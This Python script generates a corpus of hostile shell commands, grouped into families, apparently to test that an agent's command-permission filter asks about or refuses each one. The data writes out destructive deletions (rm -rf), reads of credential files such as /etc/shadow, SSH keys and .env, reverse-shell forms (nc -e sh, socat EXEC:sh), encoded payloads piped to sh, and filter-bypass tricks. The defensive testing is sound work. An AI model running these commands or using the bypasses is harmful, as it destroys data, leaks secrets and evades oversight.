"""Writes hostile.txt: one command a line, JSON strings, with the family it belongs to. Deterministic; run it after a change.

Every line must ask or be refused. Families are ids of RELIABILITY 2.1.
"""

# ruff: noqa: E501, F541

import json
from itertools import product
from pathlib import Path

PAYLOADS = ("touch canary", "rm -rf src", "python3 evil.py", "./evil.sh")
SAFE = ("ls", "git status", "cat a.txt", "echo hi", "grep -n x a.txt", "pwd", "head -5 a.txt")


def chaining():
    for safe, payload, joint in product(
        SAFE[:4], PAYLOADS, (";", " ; ", "&&", " && ", "||", " || ", "|", " | ", "|&", "&", " & ", "\n", " \n ")
    ):
        yield f"{safe}{joint}{payload}"
    for payload in PAYLOADS:
        yield from (f"({payload})", f"{{ {payload}; }}", f"! {payload}", f"if ls; then {payload}; fi")
        yield from (
            f"for i in 1; do {payload}; done",
            f"while ls; do {payload}; done",
            f"case x in x) {payload};; esac",
        )
        yield from (
            f"f() {{ {payload}; }}; f",
            f"coproc {payload}",
            f"ls & {payload}",
            f"function ls {{ {payload}; }}; ls",
        )


def substitution():
    frames = (
        "echo {}", 'echo "{}"', "cat a{}", "ls -{}", "grep {} a.txt", "git log {}", "echo hi > {}", "cat <<E\n{}\nE", 'cat <<< "{}"',
        "{}", "ls; {}", "git show {}:a", "echo $(( {} ))", "find . -name {}", 'git log --format="{}"', "head -n {} a.txt",
    )  # fmt: skip
    for frame, payload, quote in product(frames, PAYLOADS[:2], ("$({})", "`{}`", "$(echo $({}))")):
        yield frame.replace("{}", quote.replace("{}", payload))


def process_substitution():
    for program, payload, sign in product(("cat", "diff a", "grep -f", "ls", "wc -l"), PAYLOADS, "<>"):
        yield f"{program} {sign}({payload})"


def redirection():
    targets = (
        "~/.bashrc",
        ".git/hooks/pre-commit",
        "src/a.py",
        "/etc/hosts",
        "../x",
        ".vscode/settings.json",
        "$HOME/x",
        "a.txt",
    )
    for safe, sign, target in product(
        ("echo x", "ls", "git status"), (">", ">>", ">|", "&>", "&>>", "<>", "1>", "2>", ">&"), targets
    ):
        yield f"{safe} {sign} {target}"
    for target in targets:
        yield from (f"> {target}", f"{{ echo x; }} > {target}", f"echo x | tee {target}", f"exec 3>{target}")


def expansion():
    forms = (
        "${x@P}", "${x:=$(id)}", "${!x}", "${x:-`id`}", "$x", "${x}", "$*", "$@", "$1", "${x//a/b}", "${x#a}", "$[1+1]", "$((a[$(id)]))",
        "${PATH:0:1}", "$'\\x72\\x6d'", '$"x"', "~", "~root", "{a,b}", "{1..9}", "$-", "$$", "$?", "$_", "$!", "$RANDOM",
    )  # fmt: skip
    for frame, form in product(("cat {}", "ls {}", '"{}"', "git log {}", "grep -n {} a", "{} -rf src"), forms):
        yield frame.replace("{}", form)


def evaluation():
    yield from (
        "test -v 'a[$(id)]'",
        "[ -v 'a[$(id)]' ]",
        "[[ 'a[$(id)]' -eq 1 ]]",
        "printf -v 'a[$(id)]' x",
        "printf '%n' 'a[$(id)]'",
    )
    yield from (
        "read 'a[$(id)]'",
        "let 'a[$(id)]=1'",
        "declare -i 'x=a[$(id)]'",
        "typeset -i x=1",
        "export PATH=.",
        "unset PATH",
    )
    yield from (
        "local x=1",
        "readonly x=1",
        "((x=1))",
        "$[ x='a[$(touch F)]', x ]",
        "alias ls=rm",
        "trap 'rm -rf src' EXIT",
        "set -x",
    )
    yield from (
        "shopt -s expand_aliases",
        "enable -f ./evil.so evil",
        "hash -p ./evil ls",
        "bind -x '\"a\":rm'",
        "mapfile -C evil -c 1 a",
    )
    yield from (
        "complete -C evil ls",
        "compgen -C evil",
        "ulimit -c 0",
        "umask 0",
        "cd /; ls",
        "pushd /",
        "builtin eval x",
        "fc -e evil",
    )


def launchers():
    names = (
        "env", "nohup", "nice", "timeout 5", "time", "xargs", "command", "exec", "eval", "setsid", "stdbuf -o0", "sudo", "doas", "su -c",
        "busybox", "ionice", "chrt 1", "taskset 1", "flock x", "script -c", "watch", "parallel", "strace", "ltrace", "gdb --args",
        "unshare", "nsenter", "chroot .", "systemd-run", "at now", "batch", "runuser", "pkexec", "env -i", "env -S", "nice -n 5",
        "find . -exec", "ssh host", "docker run x", "make", "npm run", "npx", "uvx", "pipx run", "cargo run", "go run", "expect -c",
    )  # fmt: skip
    for name, payload in product(names, PAYLOADS):
        yield f"{name} {payload}"
    for name, payload in product(("env X=1", "env -u X", "LD_PRELOAD=./e.so", "PATH=.", "X=1 Y=2"), PAYLOADS):
        yield f"{name} {payload}"


def flags():
    rows = {
        "find": ". -exec id ;|. -exec id {} +|. -execdir id ;|. -ok id ;|. -okdir id ;|. -delete|. -fprintf /tmp/x %p|. -fprint x|. -fls x|. -fprint0 x|-files0-from x|. -follow -exec id +",
        "rg": "--pre ./evil x|--pre=./evil x|--hostname-bin ./e x|--hostname-bin=./e x|-z x|--search-zip x|--config x|-L x|--follow x|-f p x|--file=p x|--ignore-file x y|--pre-glob x y|-uuu x|--hidden x|--no-ignore x|-. x",
        "grep": "-f p a|--file=p a|-R x .|--dereference-recursive x .|-rf p .|-D read x a|--devices=read x a|-nf p a",
        "sed": "-i s/a/b/ a|-n 1e a|1w x a|-e 1e a|s/a/b/e a|s/a/b/w x a|-f s a|--in-place s/a/b/ a|-n '1e id' a|-n '1r /etc/passwd' a|--expression=1e a|-s -i 1d a|-ni 1p a",
        "sort": "-o x a|--output=x a|--compress-program=./e a|-T /x a|--files0-from=x|-ox a|--outp x a|-bo x a|--random-source=x a|-S 1% --compress-prog=e a",
        "tar": "cf x .|xf x|--checkpoint=1 --checkpoint-action=exec=id cf x .|-I ./e -xf x|--to-command=./e -xf x|--use-compress-program=e -xf x|-tf x",
        "git": "-c core.pager=./e log|-c alias.x=!id x|-c core.fsmonitor=./e status|--exec-path=. status|-p log|--paginate log|--git-dir=x status|--work-tree=/ status|--namespace=x log|--config-env=a=b status|diff --ext-diff|diff --output=x|diff --no-index /etc/passwd a|diff --textconv|log --output=x|log -O./e|log --show-signature|log --format=%GG|log --pretty=format:%G?|show --ext-diff|show --output x|grep -O./e x|grep -O x|grep --open-files-in-pager=./e x|grep --no-index x|grep -f p|grep --ext-grep x|grep --recurse-submodules x|fetch|fetch --upload-pack=./e o|fetch ext::./e|pull|push|push -f|push --force|push --force-with-lease|push origin +main|push origin :main|push --delete origin main|push --mirror|clone x|clone ext::sh|remote add x y|remote set-url o x|remote update|remote show origin|remote -v update|ls-remote x|ls-remote --upload-pack=./e .|archive --output=x HEAD|archive --remote=x HEAD|archive --exec=e HEAD|branch x|branch -D x|branch -m x|branch -d x|branch -f x|branch --edit-description|branch -u o/x|tag x|tag -d x|tag -a x|tag -s x|stash|stash drop|stash pop|stash clear|stash push|checkout .|checkout -- a|checkout -f|checkout main|switch -f x|restore .|reset --hard|reset|reset --hard HEAD~9|clean -fdx|clean -f|clean -n|commit -m x|commit --amend|add .|rm a|mv a b|merge x|rebase main|rebase -x id main|rebase --exec id main|bisect run ./e|bisect start|config a b|config --global a b|config --edit|config core.fsmonitor ./e|config --unset a|config --add a b|config --get-urlmatch a b|config --file x --list|config alias.x !id|difftool -x e|difftool|mergetool|submodule update|submodule foreach id|submodule add x|worktree add x|worktree remove x|filter-branch --tree-filter id|am x|apply x|cherry-pick x|revert x|gc|gc --prune=now|prune|reflog expire --all|update-ref -d x|update-index --refresh|replace a b|notes add|send-email x|svn x|p4 x|daemon|instaweb|credential fill|help x|web--browse x|bundle create x HEAD|format-patch -1|format-patch -o x HEAD|init|hash-object -w a|write-tree|fast-import|maintenance run|sparse-checkout set x|rev-parse --parseopt|rev-parse --sq-quote x|blame --contents x a|shortlog --format=%GG|for-each-ref --shell|symbolic-ref HEAD x|status --no-optional-locks=x|log --no-index|whatchanged --output=x|-C . push|-C . -c a=b log|--no-pager push|-P commit",
        "man": "-P ./e ls|-H./e ls|--pager=./e ls|ls", "less": "a|+!id a|-o x a", "more": "a", "vi": "a", "vim": "-c !id a", "nano": "a", "ed": "a", "emacs": "a",
        "awk": "'BEGIN{system(\"id\")}'|'{print > \"x\"}' a|-f s a|'{print}' a|'BEGIN{getline < \"x\"}'|-v x=1 1 a", "gawk": "-l e 1|1 a", "mawk": "1 a",
        "perl": "-e 'system(id)'|-ne print a|x.pl|-pi -e s/a/b/ a", "ruby": "-e 'system(%q(id))'|x.rb", "node": "-e 'x'|x.js|-p 1|--require ./e x", "php": "-r 'x'|x.php", "lua": "-e x|x.lua",
        "python": "-c 'import os'|x.py|-m http.server|-m pip install x|-v|-i|-", "python3": "-c 'print(1)'|x.py|-m x|-Ec x|--version x|-V x", "bash": "-c id|x.sh|-i|-l|-x x|--version -c id|--rcfile x|-", "sh": "-c id|x.sh|-", "zsh": "-c id", "dash": "-c id", "fish": "-c id",
        "date": "-s 1|--set=1|-f x|--file=x|-r /etc/x|010101012020|-us 1", "hostname": "evil|-F x|-b x", "file": "-C -m x|-f x|-z a|-Z a|-m x a|--files-from x|-S a|--compile", "tree": "-o x|-R -H . -o x|--fromfile x|-l",
        "uniq": "a b|-c a out", "xxd": "a b|-r a b|a", "od": "--strings=x --traditional -o", "diff": "--to-file=x a --from-file=y|-l a b|--paginate a b|-F x a b --from-file=x|a b c", "cmp": "--help=x a -i",
        "wc": "--files0-from=x|--files0-from=-", "du": "--files0-from=x|-L .|-X x .|--exclude-from=x .", "df": "--sync|--output=x", "stat": "--cached=x a|-Z a", "ls": "--hyperlink -@ x|--dired-x", "cat": "--help=x", "head": "--x a", "tail": "-f a|-F a|--follow a|--pid=1 -f a|--retry a",
        "tee": "x|-a x", "cp": "a b|-r a b", "mv": "a b", "rm": "a|-rf .|-rf /|-rf ~|-fr *|-r src", "ln": "-s a b", "mkdir": "x", "rmdir": "x", "touch": "x", "chmod": "+x a|-R 777 .", "chown": "x a", "dd": "if=a of=b", "truncate": "-s 0 a", "shred": "a", "install": "a b", "split": "a", "csplit": "a 1", "patch": "-p1|a b", "rsync": "a b|-e ./e a b", "mkfifo": "x", "mknod": "x p", "unlink": "a", "mktemp": "x", "dos2unix": "a", "gzip": "a", "gunzip": "a", "zip": "x a|-T -TT id x a", "unzip": "x", "7z": "x a", "bzip2": "a", "xz": "a", "zstd": "a",
        "curl": "x|-o y x|-K x|file:///etc/passwd", "wget": "x|--use-askpass=./e x|-O y x", "nc": "-l 1|-e sh h 1", "ssh": "h|-o ProxyCommand=./e h", "scp": "a h:|-S ./e a h:", "sftp": "h", "telnet": "h", "ftp": "h", "socat": "- EXEC:sh", "openssl": "s_client -connect h|enc -in a -out b", "dig": "x|-f x", "nslookup": "x", "host": "x", "ping": "x", "nmap": "x", "lynx": "x", "w3m": "x", "aria2c": "x", "rclone": "x",
        "sudo": "ls|-E ls", "su": "-|-c ls", "doas": "ls", "apt": "install x|update", "apt-get": "install x", "yum": "install x", "dnf": "install x", "apk": "add x", "pacman": "-S x", "brew": "install x|ls", "snap": "install x", "pip": "install x|install --user x|download x|config list|list --index-url x|wheel x", "pip3": "install x|freeze -r x", "npm": "install|install -g x|run x|publish|exec x|ci|version|config ls", "npx": "x", "yarn": "add x|global add x|", "pnpm": "add -g x|i", "gem": "install x", "cargo": "install x|build|test|run", "go": "install x|test -exec e|run x|build|env -w a=b|generate|vet -vettool=e", "make": "|-f x|test|-C x", "cmake": ".", "ninja": "", "gradle": "x", "mvn": "x", "ant": "x", "rake": "x", "bundle": "exec x", "composer": "install", "docker": "run x|exec x y|ps|rm x|system prune", "kubectl": "get x|exec x|delete x", "terraform": "apply|plan", "aws": "s3 rm x", "gh": "api x|pr list", "helm": "list", "ansible": "all -a id", "vagrant": "up",
        "mount": "|a b", "umount": "x", "systemctl": "stop x|status", "service": "x stop", "crontab": "-e|-l", "at": "now", "kill": "1|-9 1|-l", "killall": "x", "pkill": "x", "shutdown": "now", "reboot": "", "halt": "", "useradd": "x", "passwd": "", "iptables": "-L", "sysctl": "-w a=b|-a", "insmod": "x", "modprobe": "x", "mkfs.ext4": "x", "fdisk": "-l", "losetup": "x", "swapoff": "-a", "dmesg": "|-C", "journalctl": "", "loginctl": "x", "gdb": "-ex '!id'|-p 1", "strace": "ls", "ltrace": "ls", "perf": "stat ls", "screen": "", "tmux": "new id", "nohup": "ls", "watch": "ls", "top": "|-b", "htop": "", "xdg-open": "x", "open": "x", "code": "x", "emacsclient": "-e x", "tput": "x", "stty": "x", "reset": "", "clear": "", "script": "x", "ld.so": "ls", "busybox": "ls|sh", "jq": "-f x a|--from-file x|-L . 'import \"x\" as x; .' a|'env' a|'$ENV' a|--rawfile a b .|--slurpfile a b .|'input_filename' a|-n env.HOME", "yq": "-i .a=1 a", "sqlite3": "x .shell|x '.system id'", "psql": "-c x", "mysql": "-e x", "redis-cli": "x", "ps": "e|axe|-E|eww", "command": "ls|-p ls", "type": "-z x", "which": "--read-alias", "realpath": "--x a", "strings": "--target=x a|-T x a", "echo": "-x $(id)", "seq": "$(id)", "cut": "--x a", "tr": "a", "locale": "--x", "free": "-s 1 $(x)", "cal": "--x",
    }  # fmt: skip
    for program, lines in rows.items():
        for line in lines.split("|"):
            if (program, line) not in HARMLESS:
                yield f"{program} {line}".strip()
    for program in (
        "/bin/rm -rf src",
        "./ls",
        "../ls",
        "/tmp/ls",
        "bin/git status",
        "./git status",
        "LS",
        "Git status",
        "l's' $(id)",
        "\\ls",
        "'ls' > x",
    ):
        yield program


HARMLESS = {("tr", "a")}


def paths():
    places = (
        "/etc/passwd", "/etc/shadow", "~/.ssh/id_rsa", "../../etc/passwd", "/root/.bashrc", "/proc/self/environ", "/proc/1/environ", "../x", ".env",
        "sub/.env.local", "server.pem", "id_ed25519", ".aws/credentials", "a/../../x", "/home/u/.netrc", ".npmrc", "./.env", "link-out/x",
    )  # fmt: skip
    for program, place in product(
        (
            "cat",
            "head -5",
            "ls",
            "grep -n x",
            "wc -l",
            "sort",
            "diff a.txt",
            "stat",
            "git diff",
            "rg x",
            "sed -n 1p",
            "file",
            "find",
        ),
        places,
    ):
        if not (program in ("ls", "stat", "find") and not place.startswith(("/", "~", "..", "a/..", "link"))):
            yield f"{program} {place}"
    yield from (
        "git show HEAD:.env",
        "git -C / status",
        "git -C ../other log",
        "cat .e*",
        "cat .[e]nv",
        "cat *.pem",
        "cat ./.env*",
        "rg x -- -x",
        "ls -- -x",
    )
    yield from (
        "grep -rn x -- --include=x",
        "rg x *",
        "git log *",
        "sort *",
        "find * -name x",
        "grep x *",
        "cut -f1 *",
        "git diff ?",
        "rg [a]*",
    )


def differentials():
    odd = (
        "\r",
        "\0",
        "\u00a0",
        "\u2028",
        "\u2029",
        "\u200b",
        "\u202e",
        "\x1b[2K",
        "\x0b",
        "\x0c",
        "\x85",
        "\ufeff",
        "\U000e0041",
        "\x7f",
        "\u3000",
    )
    for char, frame in product(
        odd, ("ls{}touch canary", "ls {}", "l{}s", "echo {} hi", "git{}status", "{}ls", "cat a.txt{}")
    ):
        yield frame.replace("{}", char)
    for safe in SAFE:
        yield from (
            f"{safe} \\\n touch canary",
            f"{safe} \\; touch canary",
            f"{safe}\\",
            f"{safe} \\x",
            f"{safe} 'a",
            f'{safe} "a',
            f"{safe} <<E",
            f"{safe} é",
        )
        yield from (
            f"{safe}$IFS-x",
            f"{safe} $'a'",
            f"{safe} ;;",
            f"{safe} )",
            f"{safe} && ",
            f"{safe} | ",
            f"&& {safe}",
            f"{safe} }}",
            f"({safe}",
            f"{safe} # {{",
        )


def complexity():
    for count in (51, 60, 500, 10_000):
        yield ";".join(["ls"] * count)
    yield "echo " + "a" * 1_000_000
    yield "&&".join(["ls"] * 200) + "; touch canary"
    yield "(" * 200 + "ls" + ")" * 200
    yield "$(" * 100 + "ls" + ")" * 100


def encoded():
    for decoder, shell in product(
        ("base64 -d", "xxd -r -p", "rev", "tr a b", "cat", "gunzip", "openssl enc -d"),
        ("sh", "bash", "bash -s", "zsh", "python3", "perl", "xargs sh"),
    ):
        yield f"echo cm0gLXJmIHNyYw== | {decoder} | {shell}"
    for program in ("sh", "bash", "dash"):
        yield from (
            f'{program} -c "$(echo aWQ= | base64 -d)"',
            f"{program} <<< id",
            f"{program} < x",
            f"eval $(echo id)",
            f"source x",
            f". ./x",
            f"{program} x",
        )


FAMILIES = {
    "SH-01": chaining, "SH-02": substitution, "SH-03": process_substitution, "SH-04": redirection, "SH-05": expansion, "SH-06": evaluation,
    "SH-07": launchers, "SH-08": flags, "SH-08p": paths, "SH-10": differentials, "SH-11": complexity, "SH-12": encoded,
}  # fmt: skip


def main() -> None:
    seen: set[str] = set()
    lines = []
    for family, make in FAMILIES.items():
        for command in make():
            if command not in seen and len(command) < 5_000:
                seen.add(command)
                lines.append(f"{family} {json.dumps(command)}\n")
    Path(__file__).with_name("hostile.txt").write_text("".join(lines))
    print(len(lines), "commands")


if __name__ == "__main__":
    main()
